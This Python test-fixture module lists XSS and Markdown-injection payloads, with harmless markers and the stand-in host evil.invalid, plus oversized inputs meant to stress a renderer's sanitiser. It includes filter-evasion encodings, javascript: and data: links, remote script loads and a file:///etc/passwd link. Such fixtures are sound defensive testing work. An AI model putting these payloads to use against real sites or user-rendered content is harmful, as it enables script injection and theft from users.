"""Hostile texts that try to run a script, load something, lead to another site, or bring the page down.

A script that runs sets `window.pwned` or opens a dialog; a load goes to `evil.invalid` or `/made-up`.
"""

RUN = "window.pwned=1;alert(1)"
_BACKTICKS = "```"

PAYLOADS: tuple[str, ...] = (
    # Elements that run
    f"<script>{RUN}</script>",
    f"<ScRiPt type=module>{RUN}</sCrIpT >",
    "<script src=https://evil.invalid/a.js></script>",
    f"<<script>script>{RUN}<</script>/script>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>".replace("\x00", "\u200b"),
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="/made-up.png" onerror="{RUN}">',
    f"<IMG/SRC=x\tOnErRoR\n=\n{RUN}//",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script><use href=https://evil.invalid/a.svg#x></use></svg>",
    f"<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<details open ontoggle={RUN}><summary>More</summary></details>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video><audio src=https://evil.invalid/a.mp3 onerror={RUN}>",
    # Elements that load, lead away or change the page
    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:{RUN}"></iframe>',
    "<object data=https://evil.invalid/a.swf></object><embed src=https://evil.invalid/b.swf>",
    f"<form action=https://evil.invalid><button formaction='javascript:{RUN}'>Send</button></form>",
    "<base href=https://evil.invalid/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "<style>@import 'https://evil.invalid/a.css'; body{display:none}</style>",
    '<link rel=stylesheet href=https://evil.invalid/a.css><link rel=prefetch href="/made-up">',
    '<div style="position:fixed;inset:0;background:url(https://evil.invalid/b.png)">Over everything</div>',
    f"<!-- --!><img src=x onerror={RUN}> --> <![CDATA[<script>{RUN}</script>]]> <?php {RUN} ?>",
    f"<!--><img src=x onerror={RUN}>",
    '<a id=content name=pwned href="https://evil.invalid/">Take the place of a part of the page</a>',
    # Links
    f"[run](javascript:{RUN})",
    f"[run](JaVaScRiPt:{RUN}) [run]( javascript:{RUN}) [run](<java\tscript:{RUN}>)",
    f"[run](&#106;&#97;vascript&colon;{RUN}) [run](java%73cript:{RUN}) [run](javascript&#58;{RUN})",
    f"[run](\x01javascript:{RUN})".replace("\x01", "\u2063") + f" [run](java\\script:{RUN})",
    "[run](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [run](vbscript:msgbox(1))",
    "[run](//evil.invalid/a) [run](/made-up) [run](\\\\evil.invalid\\a) [run](file:///etc/passwd)",
    "[run](blob:https://evil.invalid/a) [run](ftp://evil.invalid/a) [run](view-source:https://evil.invalid)",
    f'[run](https://evil.invalid/"onmouseover="{RUN}) [run](https://evil.invalid "title\\" onclick={RUN}")',
    f"<javascript:{RUN}> <data:text/html,<script>{RUN}</script>> <https://evil.invalid/>",
    f"javascript:{RUN} www.evil.invalid https://evil.invalid/a?b=<script>{RUN}</script> mail@evil.invalid",
    f"[run][a] [a] [b]\n\n[a]: javascript:{RUN}\n[b]: data:text/html,x 'title'\n[1]: javascript:{RUN}",
    f"Said.[^1] And.[^<b>]\n\n[^1]: [run](javascript:{RUN}) <img src=x onerror={RUN}>\n[^<b>]: ![x](/made-up.png)",
    f"[^x]: <b id=content>A note</b> [run](javascript:{RUN})\n# Said[^x] and again[^x]",
    f'[a]: javascript:{RUN}\n[b]: https://evil.invalid/a "onclick={RUN}"\n[a] [b] ![b] ![a] [run][a]',
    f"# Heading {{#content}} [run](javascript:{RUN}) <a name=app>\n\nOther\n=====\n\n## footnote-label",
    # Images
    "![pixel](https://evil.invalid/pixel.png) ![](/made-up.png) ![](data:image/svg+xml,<svg/onload=alert(1)>)",
    f'![x](x "onerror={RUN}") ![<img src=x onerror={RUN}>](https://evil.invalid/a.png)',
    "[![pixel](https://evil.invalid/pixel.png)](https://evil.invalid/) ![pixel][p]\n\n[p]: https://evil.invalid/p.png",
    # Markers of sources
    f"[1](javascript:{RUN}) [1](https://evil.invalid/) [[1]](https://evil.invalid) [1][2](data:text/html,x)",
    f"[999] [0] [-1] [1, 2, 3] [1]{{onclick={RUN}}} [١] [1e9] [__proto__] [99999999999999999999]",
    "[x](#source-1) [x](#source-__proto__) <a href=#source-1>1</a> ![x](#source-1)",
    # Markdown within Markdown
    f"> - > - > <img src=x onerror={RUN}>\n> > [run](javascript:{RUN})\n\n1. - * + [x] <script>{RUN}</script>",
    f"**bold _<img src=x onerror={RUN}>_** ~~[run](javascript:{RUN})~~ `<script>{RUN}</script>` \\<script>{RUN}",
    f"| a | <img src=x onerror={RUN}> |\n| --- | :-: |\n| [run](javascript:{RUN}) | `x` <script>{RUN}</script> |",
    f'{_BACKTICKS}html"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n{_BACKTICKS}',
    f"{_BACKTICKS}<script>{RUN}</script> onload={RUN} __proto__\n<b>x</b>\n{_BACKTICKS}",
    f"{_BACKTICKS}js\n</code></pre><script>{RUN}</script>\n// never closed",
    f"~~~constructor\n<img src=x onerror={RUN}>\n~~~\n\n    <script>{RUN}</script>",
    f"{_BACKTICKS}mermaid\ngraph\n{_BACKTICKS}",
    f"---\ntitle: <script>{RUN}</script>\nhead: [meta]\n---\n\nText after front matter.",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\includegraphics{{https://evil.invalid/a.png}}$$ \\(\\unicode{{<img>}}\\)",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %> #{{{RUN}}} :::script",
    f"import x from 'https://evil.invalid/a.js'\n\nexport const a = <img src=x onError={{() => {{{RUN}}}}} />",
    # Text that looks different from what it is
    "\u202e\u2066moc.dilavni.live//:sptth\u2069 \u200f\u061c(1)trela \u202dLRO \u2067RLI",
    f"jav\u200bascr\u00adipt:{RUN} [r\u200dun](java\u200bscript:{RUN}) \ufeff<scr\u2060ipt>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E &lt;script&gt;{RUN}&lt;/script&gt; &#x3c;img src=x onerror={RUN}&#x3e;",
    "＜script＞alert(1)＜/script＞ <ſcript>alert(1)</ſcript> <İmg src=x onerror=alert(1)>",
    "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67".encode("utf-16", "surrogatepass").decode("utf-16")
    + "e\u0301" * 5
    + "Z\u0351\u0347\u0349" * 30,
)

# Texts that are simply large: rendering may take time, and the page must survive.
LARGE: tuple[str, ...] = (
    "> " * 12_000 + "deep",
    "\n".join(" " * (2 * depth) + "- deep" for depth in range(120)),
    "[" * 3_000 + "x" + "](https://evil.invalid)" * 50,
    "*_" * 2_000 + "x" + "_*" * 2_000,
    "- " * 3_000 + "deep",
    "> *_ a\n" * 1_200,
    "`" * 999 + "x" + "`" * 998,
    "A" * 9_500,
    "https://evil.invalid/" + "a" * 9_000,
    "| a " * 300 + "|\n" + "| - " * 300 + "|\n" + ("| b " * 300 + "|\n") * 6,
    "<div>" * 1_800,
)
